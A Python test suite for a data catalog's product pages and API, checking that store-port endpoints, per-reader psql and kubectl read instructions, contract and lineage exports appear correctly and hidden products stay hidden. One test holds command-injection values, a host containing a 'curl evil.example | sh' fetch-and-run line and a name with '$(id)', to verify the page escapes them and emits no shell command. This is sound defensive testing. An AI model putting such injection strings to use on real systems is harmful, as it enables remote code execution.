"""The catalog's product page and API for a store port: where its table is (store, host:port,
database, schema.table) and, for each reader granted, the lines that read it with the login in
its Secret (never a credential); per-port ODCS from the API; Hidden products stay hidden."""

from __future__ import annotations

import copy
import html as html_text
import json
from typing import Any

import yaml
from aiohttp.test_utils import TestClient

from tests.catalog_mesh import example_objects, example_store, product_object
from tests.datacontract import ENDPOINT, store_port_document
from tests.unit.test_catalog_pages import _validate, api, page, serve

TABLE = ("postgres://postgres.datamesh-system.svc:5432", "mesh.sales__orders.orders_v1")


def _orders_in_a_store() -> dict[str, Any]:
    """sales/orders with orders-v1 in the store, a newer version of the example's object."""
    (example,) = [
        o
        for o in example_objects()
        if o["kind"] == "DataProduct" and o["metadata"]["name"] == "orders"
    ]
    document = store_port_document()
    obj = copy.deepcopy(example)
    obj["metadata"]["resourceVersion"] = "2"
    obj["spec"] = document["spec"]
    obj["status"]["outputPorts"] = document["status"]["outputPorts"]
    group_grant = {"kind": "Group", "name": "finance-analysts", "role": "dm_group_finance_analysts"}
    obj["status"]["outputPorts"][0]["grants"].append(group_grant)
    return obj


def _revenue_reading_orders_v1() -> dict[str, Any]:
    (example,) = [
        o
        for o in example_objects()
        if o["kind"] == "DataProduct" and o["metadata"]["name"] == "revenue"
    ]
    obj = copy.deepcopy(example)
    obj["metadata"]["resourceVersion"] = "2"
    obj["spec"]["inputs"][0]["dataProduct"]["port"] = "orders-v1"
    return obj


def test_the_product_page_shows_a_store_ports_endpoint_and_how_each_reader_reads_it() -> None:
    async def check(client: TestClient[Any, Any]) -> None:
        shown = html_text.unescape(await page(client, "/dataproducts/sales/orders"))
        port = shown[shown.index('id="port-orders-v1"') : shown.index('id="port-daily-revenue"')]
        assert "table in DataStore local-postgres" in port
        assert "<code>postgres.datamesh-system.svc:5432</code>" in port
        assert "<dt>Database</dt><dd><code>mesh</code>" in port
        assert "<code>sales__orders.orders_v1</code>" in port
        assert "Read it as ServiceAccount finance/revenue" in port
        assert "the Secret <code>finance/dm-store-local-postgres-revenue</code>" in port
        assert (
            "kubectl get secret dm-store-local-postgres-revenue -n finance -o go-template="
            '\'export PGUSER={{index .data "PGUSER" | base64decode}}' in port
        )
        assert (
            'psql "host=postgres.datamesh-system.svc port=5432 dbname=mesh" '
            "-c 'SELECT * FROM sales__orders.orders_v1 LIMIT 10'" in port
        )
        assert "through the role <code>dm_group_finance_analysts</code>" in port
        # The volume port beside it is shown as before.
        assert "csv, 1Gi, volume Bound" in shown

    serve(example_store(extra=[_orders_in_a_store()]), check)


def test_a_store_port_without_grants_says_no_reader_can_read_it_yet() -> None:
    obj = _orders_in_a_store()
    obj["status"]["outputPorts"][0]["grants"] = []

    async def check(client: TestClient[Any, Any]) -> None:
        shown = await page(client, "/dataproducts/sales/orders")
        assert "No reader is granted this table yet." in shown
        assert "psql" not in shown

    serve(example_store(extra=[obj]), check)


def test_the_api_gives_the_endpoint_as_its_openapi_document_says() -> None:
    async def check(client: TestClient[Any, Any]) -> None:
        document = await api(client, "/api/v1/openapi.json")
        detail = await api(client, "/api/v1/dataproducts/sales/orders")
        _validate(document, "ProductDetail", detail)
        (port,) = [p for p in detail["ports"] if p["name"] == "orders-v1"]
        assert port["endpoint"] == {
            "store": "local-postgres",
            "host": ENDPOINT["host"],
            "port": 5432,
            "database": "mesh",
            "schemaName": "sales__orders",
            "table": "orders_v1",
        }
        assert [r["secret"] for r in port["reads"]] == [
            "finance/dm-store-local-postgres-revenue",
            None,
        ]

    serve(example_store(extra=[_orders_in_a_store()]), check)


def test_the_api_exports_one_ports_contract_alone() -> None:
    async def check(client: TestClient[Any, Any]) -> None:
        path = "/api/v1/dataproducts/sales/orders/export/odcs"
        response = await client.get(f"{path}?port=orders-v1")
        assert response.status == 200
        (contract,) = list(yaml.safe_load_all(await response.text()))
        assert contract["servers"][0]["host"] == ENDPOINT["host"]
        assert (
            'filename="sales.orders.orders-v1.odcs.yaml"' in response.headers["Content-Disposition"]
        )
        error = await api(client, f"{path}?port=nope", status=404)
        assert "has no output port nope" in error["error"]["message"]
        await api(
            client, "/api/v1/dataproducts/sales/orders/export/odps?port=orders-v1", status=404
        )

    serve(example_store(extra=[_orders_in_a_store()]), check)


def test_the_catalogs_lineage_export_connects_a_consumer_to_the_upstream_table() -> None:
    async def check(client: TestClient[Any, Any]) -> None:
        response = await client.get("/api/v1/dataproducts/finance/revenue/export/openlineage")
        events = json.loads(await response.text())
        inputs = {(d["namespace"], d["name"]) for e in events for d in e.get("inputs", [])}
        assert TABLE in inputs
        mesh = json.loads(await (await client.get("/api/v1/export/openlineage")).text())
        outputs = {(d["namespace"], d["name"]) for e in mesh for d in e.get("outputs", [])}
        assert TABLE in outputs

    serve(example_store(extra=[_orders_in_a_store(), _revenue_reading_orders_v1()]), check)


def test_a_hidden_products_table_is_nowhere_in_the_catalog() -> None:
    hidden = product_object("secret-sauce", "sales", discoverability="Hidden")
    hidden["status"] = {
        "outputPorts": [
            {
                "name": "secret-sauce-v1",
                "phase": "Placed",
                "endpoint": {
                    **ENDPOINT,
                    "schema": "sales__secret_sauce",
                    "table": "secret_sauce_v1",
                },
            }
        ]
    }
    reader = product_object(
        "reads-secret",
        "sales",
        inputs=[{"name": "s", "dataProduct": {"name": "secret-sauce", "port": "secret-sauce-v1"}}],
        pipelines=[{"name": "load", "image": "ghcr.io/acme/load:1"}],
    )

    async def check(client: TestClient[Any, Any]) -> None:
        reads = "/dataproducts/sales/reads-secret"
        paths = [reads, f"/api/v1{reads}", "/api/v1/export/openlineage", "/api/v1/export/odcs"]
        paths += [f"/api/v1{reads}/export/{name}" for name in ("openlineage", "odps")]
        for path in paths:
            response = await client.get(path)
            assert response.status == 200, path
            assert "secret_sauce" not in await response.text(), path
        await api(
            client,
            "/api/v1/dataproducts/sales/secret-sauce/export/odcs?port=secret-sauce-v1",
            status=404,
        )

    serve(example_store(extra=[hidden, reader]), check)


def test_an_endpoint_a_shell_would_read_as_more_than_names_gets_no_command() -> None:
    """A status written by hand may hold anything; a line a reader copies into a shell must
    not run what it holds. The endpoint is still shown, as text."""
    obj = _orders_in_a_store()
    hostile = "db'; curl evil.example | sh; echo '"
    obj["status"]["outputPorts"][0]["endpoint"]["host"] = hostile
    obj["status"]["outputPorts"][0]["grants"].append(
        {"kind": "ServiceAccount", "name": "x$(id)", "namespace": "finance", "role": "r"}
    )
    fine = _orders_in_a_store()
    fine["status"]["outputPorts"][0]["grants"].append(
        {"kind": "ServiceAccount", "name": "x$(id)", "namespace": "finance", "role": "r"}
    )

    async def check(client: TestClient[Any, Any]) -> None:
        shown = html_text.unescape(await page(client, "/dataproducts/sales/orders"))
        assert hostile in shown  # shown as text, escaped in the HTML
        assert "psql" not in shown and "kubectl get secret" not in shown

    serve(example_store(extra=[obj]), check)

    async def check_grant(client: TestClient[Any, Any]) -> None:
        detail = await api(client, "/api/v1/dataproducts/sales/orders")
        (port,) = [p for p in detail["ports"] if p["name"] == "orders-v1"]
        assert [r["reader"] for r in port["reads"]] == [
            "ServiceAccount finance/revenue",
            "Group finance-analysts",
        ]

    serve(example_store(extra=[fine]), check_grant)


def test_each_port_links_to_its_contract_alone_which_the_api_serves() -> None:
    async def check(client: TestClient[Any, Any]) -> None:
        shown = await page(client, "/dataproducts/sales/orders")
        for port in ("orders-v1", "daily-revenue"):
            url = f"/api/v1/dataproducts/sales/orders/export/odcs?port={port}"
            assert f'<a href="{html_text.escape(url)}">ODCS</a>' in shown
            (contract,) = list(yaml.safe_load_all(await page(client, url)))
            assert contract["id"] == f"sales.orders.{port}"

    serve(example_store(extra=[_orders_in_a_store()]), check)
